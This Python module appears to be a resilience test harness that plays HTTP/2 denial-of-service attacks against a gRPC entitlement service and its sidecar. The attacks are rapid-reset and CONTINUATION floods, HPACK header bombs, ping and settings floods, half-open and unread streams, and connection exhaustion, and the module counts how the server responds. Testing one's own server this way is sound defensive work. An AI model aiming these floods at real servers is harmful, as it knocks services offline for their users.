"""Attacks on a server, frame by frame.

An attack is a generator: each step does some of it and says in a few words what came of that. As a program,
`hostile.py ATTACK ADDRESS` plays one until its standard input ends: who attacks and who measures share no interpreter.
"""

import collections
import itertools
import json
import select
import struct
import sys
from collections.abc import Iterator

import http2
from http2 import Peer, call, data, field, frame, header, message, odd, opened

SERVICE = "bursar.v1.EntitlementService"
AUTHORIZE, SESSION, WATCH = (f"/{SERVICE}/{method}" for method in ("Authorize", "Session", "WatchBalance"))
# A call that the ledger has too; as all, it waits for its message.
CHECK = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# What the attacks' own calls are about.
ACCOUNT = "attacked"

# Frames of one flood: by then a server has had enough.
FLOOD = 1100
# Streams that one connection may have open.
STREAMS = 256
# Connections, far more than a sidecar takes, and how many of them are opened at a time.
IDLE = 10_000
CONNECTIONS = 100

# How long an attack rests after each step. A flood of pings is then one of 100,000 frames a second. Faster ones are not
# played: a connection that sends without a pause has its thread for some ten milliseconds at a time, which everybody else
# waits for, since all that has arrived is read before another connection's turn.
STEP_SECONDS = 0.01

# Resets in a lump of which a server need not take notice: it has room for 20 that it has not taken up.
LUMP = 19

# Runs that are begun in one step: thousands in a second. What is remembered of a run takes the better part of a kilobyte at a
# sidecar, which keeps the last ten thousand of an account, and at the ledger, which keeps the last five million.
RUNS = 64

# Requests that are pipelined over each stream whose answers are not read, and on how many streams. A session takes 1,024 into
# work, at some fifteen kilobytes each: three sessions take more memory than they should, four may take all 4,096 calls that a
# sidecar has in work at once, and the answers to hundreds, which lie ready, come to hundreds of megabytes.
PIPELINED = 1100
DEAF_SESSIONS = 1
DEAF_REFLECTIONS = 16
DEAF_WATCHES = 64

# What each of the half-open calls has sent of its message, without a pause for the window. A message may have 256 KiB, and one
# to health or reflection 4 MiB: with as much on each stream one connection takes far more memory than it should.
UPLOADED = 48 << 10

# HPACK's own way to write `:status: 431`, and `grpc-status: 11`, by a server that has written neither before.
STATUS_431 = "48836990ff"
OUT_OF_RANGE = "889acac8b21234da8f82087f"

# `DECISION_ALLOWED`, as an answer has it.
ALLOWED = field(2, 1)

BEGUN = frame(http2.HEADERS, 0, 1, call(CHECK))


def _continued(payload: bytes) -> bytes:
    return frame(http2.CONTINUATION, 0, 1, payload)


def _reset(stream: int, path: str) -> bytes:
    return opened(stream, path) + frame(http2.RST_STREAM, 0, stream, http2.CANCEL)


def _made_reset(kind: int, payload) -> bytes:
    """Streams that the server has to reset, for a frame that may not be sent."""
    return b"".join(opened(n, CHECK) + frame(kind, 0, n, payload(n)) for n in odd(FLOOD))


# What ends a connection that has been greeted.
FATAL = {
    "resets": b"".join(_reset(n, CHECK) for n in odd(FLOOD // 2)),
    "windows_that_overflow": _made_reset(http2.WINDOW_UPDATE, lambda n: struct.pack(">I", 0x7FFF_FFFF)),
    "streams_that_depend_on_themselves": _made_reset(http2.PRIORITY, lambda n: struct.pack(">IB", n, 0)),
    "refused_streams": b"".join(opened(n, CHECK) for n in odd(STREAMS + FLOOD)),
    "a_window_update_of_nothing": opened(1, CHECK) + frame(http2.WINDOW_UPDATE, 0, 1, bytes(4)),
    "a_reset_of_no_stream": frame(http2.RST_STREAM, 0, 1, http2.CANCEL),
    "data_of_no_stream": data(1, b"more"),
    "continuations": BEGUN + b"".join(_continued(header(f"x-{n}", "y")) for n in range(FLOOD)),
    "long_continuations": BEGUN + _continued(header("x", "y" * 16_000)) * FLOOD,
    "empty_continuations": BEGUN + _continued(b"") * FLOOD,
    "a_ping_among_continuations": BEGUN + frame(http2.PING, payload=bytes(8)),
    # One long header that HPACK remembers, then named again by one byte each time.
    "header_bombs": frame(
        http2.HEADERS, http2.END_HEADERS, 1, call(CHECK) + header("x", "y" * 3900, True) + b"\xbe" * 8000
    ),
    "empty_data": opened(1, CHECK) + frame(http2.DATA, 0, 1) * FLOOD,
    "a_long_frame": opened(1, CHECK) + frame(http2.DATA, 0, 1, bytes(http2.FRAME_BYTES_MAX + 1)),
}

# What somebody says who does not speak HTTP/2.
STRANGERS = {
    "garbage": bytes(range(256)),
    "http1": b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "tls": bytes.fromhex("16030100500100004c0303") + bytes(74),
    "nearly_a_preface": http2.PREFACE[:-2] + b"XX",
}


def fatal(address: str, *names: str) -> Iterator[str]:
    """A connection for each in turn."""
    for name in itertools.cycle(names):
        with Peer(address) as peer:
            peer.send(FATAL[name])
            yield f"{name}: {peer.fate()}"


def strangers(address: str) -> Iterator[str]:
    for name in itertools.cycle(STRANGERS):
        with Peer(address, greets=False) as peer:
            peer.send(STRANGERS[name])
            yield f"{name}: {'open' if peer.fate() == 'open' else 'ended'}"


def lumps_of_resets(address: str) -> Iterator[str]:
    """Streams that are reset at once, so few at a time that the server has taken up each lump before the next."""
    peer, streams = Peer(address), iter(odd(1 << 30))
    while True:
        peer.send(b"".join(_reset(n, AUTHORIZE) for n in itertools.islice(streams, LUMP)))
        peer.barrier()
        yield peer.state()


def flood(address: str, frame_again: bytes) -> Iterator[str]:
    """The same frame again and again, many in each step. One peer takes the answers, another never reads."""
    reading, deaf, frames = Peer(address), Peer(address), frame_again * FLOOD
    while True:
        reading.push(frames)
        deaf.push(frames)
        yield f"{reading.attend()}, {deaf.state()}"


def answered(address: str, frames: bytes) -> tuple[str, str]:
    """The headers of the answer to the first stream, in hexadecimal, and how the connection is then."""
    with Peer(address) as peer:
        peer.send(frames)
        answers = peer.until(http2.HEADERS, http2.END_STREAM)
        return "".join(payload.hex() for kind, _, _, payload in answers if kind == http2.HEADERS), peer.state()


def too_large(address: str) -> Iterator[str]:
    """Headers, and messages, that are longer than they may be. The connection goes on."""
    headers = call(AUTHORIZE) + b"".join(header(f"x-{n}", "y" * 1000) for n in range(9))
    claim = message(b"x", claimed=0xFFFF_FFFF)
    while True:
        answer, state = answered(address, frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, headers))
        yield f"headers: {'refused' if answer == STATUS_431 else answer}, {state}"
        # A session's message is refused when its length is read, a lone one's when the call has been read.
        for path, end in ((AUTHORIZE, True), (SESSION, False)):
            answer, state = answered(address, opened(1, path) + data(1, claim, end))
            yield f"message: {'refused' if OUT_OF_RANGE in answer else answer}, {state}"


def half_open(address: str) -> Iterator[str]:
    """Calls that never end, on as many streams as there may be: on one connection headers alone, on another most of a message."""
    silent, loaded = Peer(address), Peer(address)
    silent.send(b"".join(opened(n, AUTHORIZE) for n in odd(STREAMS)))
    silent.barrier()
    most = message(bytes(UPLOADED), claimed=2 * UPLOADED)[:UPLOADED]
    for n in odd(STREAMS):
        loaded.send(opened(n, AUTHORIZE) + data(n, most))
        # Read by then, and so the connection's window has room again.
        loaded.barrier()
    while True:
        yield f"{silent.attend()}, {loaded.attend()}"


def deaf(address: str) -> Iterator[str]:
    """Streams whose answers have no room to be sent in, on a connection of its own for each kind."""
    balance = field(1, ACCOUNT)
    asked = b"".join(message(field(1, n + 1) + field(18, balance)) for n in range(PIPELINED))
    described = message(field(4, SERVICE)) * PIPELINED
    peers = []
    for path, streams, sent in (
        (SESSION, DEAF_SESSIONS, asked),
        (REFLECTION, DEAF_REFLECTIONS, described),
        (WATCH, DEAF_WATCHES, message(balance)),
    ):
        peers.append(peer := Peer(address, window=0))
        for n in odd(streams):
            peer.send(opened(n, path) + data(n, sent, end=path == WATCH))
            peer.barrier()
    while True:
        yield ", ".join(peer.attend() for peer in peers)


def abandoned(address: str) -> Iterator[str]:
    """Runs that are authorised, for a second each, and never heard of again."""
    fields = {1: ACCOUNT, 3: "draft", 4: "1", 11: field(1, 1)}
    run = message(b"".join(field(number, content) for number, content in fields.items()))
    while True:
        with Peer(address) as peer:
            peer.send(b"".join(opened(n, AUTHORIZE) + data(n, run, end=True) for n in odd(RUNS)))
            said = [one for _ in odd(RUNS) for one in peer.until(http2.HEADERS, http2.END_STREAM)]
            yield f"{sum(ALLOWED in payload for kind, _, _, payload in said if kind == http2.DATA)} held"


def idle(address: str, greets: bool) -> Iterator[str]:
    """Connections opened as fast as they are taken up, and kept. A server that keeps one sends its settings first."""
    greeting = http2.PREFACE + frame(http2.SETTINGS) if greets else b""
    taken, refused = [], 0
    for _ in range(IDLE // CONNECTIONS):
        # More would wait where the kernel keeps them until they are accepted, and it drops what has no place there.
        peers = [Peer(address, greets=False) for _ in range(CONNECTIONS)]
        for peer in peers:
            peer.send(greeting)
        for peer in peers:
            if peer.next(http2.ANSWER_SECONDS) is not None:
                taken.append(peer)
            refused += peer.closed
    still_open = sum(peer.attend() == "open" for peer in taken)
    while True:
        yield f"{len(taken)} taken, {refused} refused, {still_open} open"
        for peer in taken:
            peer.attend()


ATTACKS = {
    "resets": lambda address: fatal(address, "resets"),
    "lumps_of_resets": lumps_of_resets,
    "made_resets": lambda address: fatal(
        address, "windows_that_overflow", "streams_that_depend_on_themselves", "refused_streams"
    ),
    "headers": lambda address: fatal(
        address, "continuations", "long_continuations", "empty_continuations", "header_bombs"
    ),
    "empty_data": lambda address: fatal(address, "empty_data"),
    "pings": lambda address: flood(address, frame(http2.PING, payload=bytes(8))),
    "settings": lambda address: flood(address, http2.settings(http2.INITIAL_WINDOW_SIZE, 1000)),
    "too_large": too_large,
    "strangers": strangers,
    "half_open": half_open,
    "deaf": deaf,
    "abandoned": abandoned,
    "silent_connections": lambda address: idle(address, greets=False),
    "idle_connections": lambda address: idle(address, greets=True),
}


def main(name: str, address: str) -> None:
    """Plays an attack; what its steps said is counted on standard output."""
    print(json.dumps({"began": name}), flush=True)
    said: collections.Counter[str] = collections.Counter()
    for step in ATTACKS[name](address):
        said[step] += 1
        if select.select([sys.stdin], [], [], STEP_SECONDS)[0]:
            break
    print(json.dumps(said), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
